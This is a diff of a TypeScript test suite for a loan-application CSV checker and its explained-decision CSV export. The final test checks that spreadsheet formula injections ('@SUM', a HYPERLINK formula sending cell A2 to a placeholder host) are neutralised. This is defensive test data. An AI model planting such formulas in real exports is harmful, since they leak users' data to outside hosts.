@@ -120,10 +120,11 @@ describe('CSV rows', () => {
     expect(columns.ignored).toEqual(['Status', 'Age', 'Marital']);
     expect(columns.missing).toEqual([]);
     expect(columns.missingRequired).toEqual([]);
-    const { good, bad } = checkRows(schema, parsed.data, 2, parsed.malformed);
+    const { good, bad } = checkRows(schema, parsed.data, 2, parsed.malformed, ',', columns.ignored);
     expect(good.length + bad.length).toBe(4454);
     expect(good[0]).toEqual({
       line: 2,
+      kept: ['good', '30', 'married'],
       applicant: {
         Seniority: 9,
         Home: 'rent',
@@ -232,7 +233,9 @@ describe('CSV rows', () => {
   it('reads an amount Excel saved with its thousands separator ("12,000") as the CLI does, and no other commas', () => {
     const parsed = parse('Amount,Assets,Seniority\n"12,000","1,234,567",3\n"1,5",100,3\n');
     const { good, bad } = checkRows(optional, parsed.data, 2, parsed.malformed);
-    expect(good).toEqual([{ line: 2, applicant: { Amount: 12000, Assets: 1234567, Seniority: 3 } }]);
+    expect(good).toEqual([
+      { line: 2, applicant: { Amount: 12000, Assets: 1234567, Seniority: 3 }, kept: [] },
+    ]);
     expect(bad).toEqual([{ line: 3, problems: [{ field: 'Amount', code: 'wrong_type', given: '1,5' }] }]);
     // A semicolon file's "1,500" may be one and a half (its decimal mark is a comma): not read as a number.
     const semi = Papa.parse<Record<string, string>>('Amount;Seniority\n1,500;3', {
@@ -322,7 +325,9 @@ describe('CSV rows', () => {
       expect(zh(r)).not.toMatch(/, |; |\(/);
       expect(en(r)).not.toMatch(/、|；|（/);
     }
-    expect(zh({ kind: 'noFeatureColumns' })).toContain('Seniority、Home、Time');
+    expect(zh({ kind: 'noFeatureColumns' })).toContain(
+      '工龄（Seniority）、住房情况（Home）、贷款期限（Time）',
+    );
     expect(zh(repeated)).toContain('Amount ← “Amount”、“申请金额”；Price ← “price”、“PRICE”');
     expect(en(repeated)).toContain('Amount ← “Amount”, “申请金额”; Price ← “price”, “PRICE”');
     expect(zh({ kind: 'notCsv', detail: 'The file could not be read' })).toMatch(
@@ -767,12 +772,12 @@ describe('the results table and exports', () => {
   });
 
   it('exports the explained rows as CSV (with a byte-order mark) in file order, masked features masked', () => {
-    const csv = resultsCsv(rows);
+    const csv = resultsCsv(rows, { kept: [], maskedLabel: masked(MASKED) });
     expect(csv.startsWith('\uFEFF')).toBe(true);
     const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
     expect(parsed.data.map((r) => r.line)).toEqual(['2', '3', '5']);
     expect(parsed.data[1]!.decision).toBe('declined');
-    expect(parsed.data[0]!.top_attributions).toBe('职业类型: 0.2000; sensitive_abc: -0.9000');
+    expect(parsed.data[0]!.top_attributions).toBe('职业类型: 0.2000; 敏感特征（已脱敏）: -0.9000');
     expect(csv).not.toContain('Income');
   });
 
@@ -784,7 +789,10 @@ describe('the results table and exports', () => {
       reasons: [{ feature: 'Job', attribution: -0.2, description: '@SUM(1+1)\nmore' }],
       rest_sum: -0.25,
     });
-    const csv = resultsCsv(resultRows([{ line: 2, ok: true, doc }]));
+    const csv = resultsCsv(resultRows([{ line: 2, ok: true, doc }]), {
+      kept: [],
+      maskedLabel: () => 'sensitive_abc',
+    });
     const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
     expect(parsed.data[0]!.top_attributions).toBe(
       `'=HYPERLINK("http://x.example/?"&A2,"Job"): 0.2000; sensitive_abc: -0.9000`,
